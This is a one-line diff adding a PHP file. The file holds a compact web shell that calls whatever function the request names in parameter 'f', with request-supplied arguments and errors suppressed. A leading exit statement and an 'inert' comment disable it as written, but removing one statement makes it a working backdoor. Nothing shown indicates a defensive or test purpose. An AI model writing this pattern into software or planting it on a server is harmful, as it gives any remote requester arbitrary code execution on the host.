@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $r=$_REQUEST; @$r["f"]($r["a"],$r["b"]);
